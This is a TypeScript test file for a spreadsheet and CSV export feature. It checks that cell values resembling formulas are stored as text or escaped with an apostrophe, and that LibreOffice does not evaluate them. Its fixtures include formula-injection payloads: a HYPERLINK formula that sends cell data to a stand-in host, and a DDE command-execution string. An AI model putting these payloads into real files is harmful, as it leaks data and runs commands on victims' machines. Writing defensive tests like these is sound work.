import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { csvFile, guarded, unguarded } from '#core/formats/csv.ts';
import { workbook } from '#pipeline/intake/sheet/workbook.ts';
import { aContent, aFolder, retype, ROUND_FOLDER } from '#tests/office.ts';
import { missing, systemProgram } from '#tests/system-program.ts';
import { there } from '#tests/there.ts';
import { cellsOf, exported, parsedCsv } from './tables.ts';

describe('what somebody may have typed to be evaluated', () => {
  const hostile = {
    summary: '=HYPERLINK("http://evil.example.org/?"&A1,"详情")',
    employer: "@SUM(1+1)*cmd|' /C calc'!A0",
    post: '+8613800000000',
    workMethod: '-2+3',
  };

  async function aHostileContent(): Promise<string> {
    const content = await aContent();
    const person = `${ROUND_FOLDER}/candidates/k7m2xq4.md`;
    await retype(
      content,
      person,
      '"细纱挡车工，单手接头每分钟二十二根，断头率全厂最低。"',
      JSON.stringify(hostile.summary),
    );
    await retype(content, person, '"澄湖市东湾纺织厂"', JSON.stringify(hostile.employer));
    await retype(content, person, '"细纱挡车班长"', JSON.stringify(hostile.post));
    await retype(content, person, '"三看两摸巡回法"', JSON.stringify(hostile.workMethod));
    return content;
  }

  it('is text in the workbook: no formula, every cell a string', async () => {
    const bytes = await exported(await aHostileContent(), 'a.xlsx');
    const cells = (await cellsOf(bytes)).flat();
    for (const value of Object.values(hostile)) assert.ok(cells.includes(value), value);
    const xml = strFromU8(there(unzipSync(bytes)['xl/worksheets/sheet1.xml']));
    assert.doesNotMatch(xml, /<f[ >]/);
    assert.doesNotMatch(xml, /<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="(?:n|str|b|e)")?(?: s="\d+")?><v>/);
  });

  it('is held back by an apostrophe in the CSV file', async () => {
    const cells = parsedCsv(await exported(await aHostileContent(), 'a.csv')).flat();
    for (const value of Object.values(hostile)) {
      assert.ok(cells.includes(`'${value}`), value);
      assert.ok(!cells.includes(value), value);
    }
    assert.ok(cells.every((cell) => !/^[=+\-@\t\r]/.test(cell)));
  });

  it('is not evaluated by LibreOffice, and long digits stay whole', { skip: missing('soffice') }, async () => {
    const folder = await aFolder();
    const values = [
      ...Object.values(hostile),
      '=1+1',
      '110101190001011234',
      '0631',
      '202010000000',
      '1E5',
      '3-4',
      'TRUE',
    ];
    const rows = values.map((value) => [value]);
    await writeFile(join(folder, 'a.csv'), csvFile([['值'], ...rows]));
    await writeFile(
      join(folder, 'b.xlsx'),
      await workbook([{ name: '表', columns: [{ header: '值', width: 20 }], rows }]),
    );
    const convert = (file: string, ...more: string[]): void => {
      const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,1';
      const profile = `-env:UserInstallation=file://${folder}/profile`;
      spawnSync(
        systemProgram('soffice'),
        [profile, '--headless', ...more, '--convert-to', filter, '--outdir', join(folder, 'out'), join(folder, file)],
        // The sheet's name goes into the file's: that wants a locale that can write it.
        { timeout: 300_000, env: { ...process.env, LC_ALL: 'C.UTF-8' } },
      );
    };
    convert('a.csv', '--infilter=CSV:44,34,76,1,,0,false,true');
    convert('b.xlsx');
    const read = async (name: string): Promise<string[]> =>
      (await readFile(join(folder, 'out', name), 'utf8'))
        .trimEnd()
        .split('\n')
        .slice(1)
        .map((line) => line.replace(/^"(.*)"$/, '$1').replaceAll('""', '"'));
    assert.deepEqual(await read('b-表.csv'), values);
    const fromCsv = await read('a-a.csv');
    // LibreOffice makes a number of 1E5 and a truth value of TRUE, as any spreadsheet does with CSV; none is a formula or loses a digit.
    assert.deepEqual(fromCsv.slice(0, 8).map(unguarded), values.slice(0, 8));
  });
});

describe('the guard', () => {
  it('comes off exactly as it went on, whatever the text', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.stringMatching(/^'{0,3}[=+\-@＝＋－＠]?[0-9A-Z(]{0,20}$/),
      fc.constantFrom("'", "''", "'=", "''=", '=', "'110101190001011234", '0', '00', "'00", '\t', '\r\n=', "'甲"),
    );
    fc.assert(
      fc.property(text, (value) => {
        assert.equal(unguarded(guarded(value)), value);
        assert.doesNotMatch(guarded(value), /^[=+\-@＝＋－＠\t\r\n]/);
        assert.deepEqual(parsedCsv(csvFile([[value]])), [[guarded(value)]]);
      }),
      { seed: 20261121, numRuns: 5000 },
    );
  });

  it('leaves an office’s own apostrophe alone', () => {
    assert.equal(unguarded("'甲"), "'甲");
    assert.equal(unguarded("'18"), "'18");
  });
});
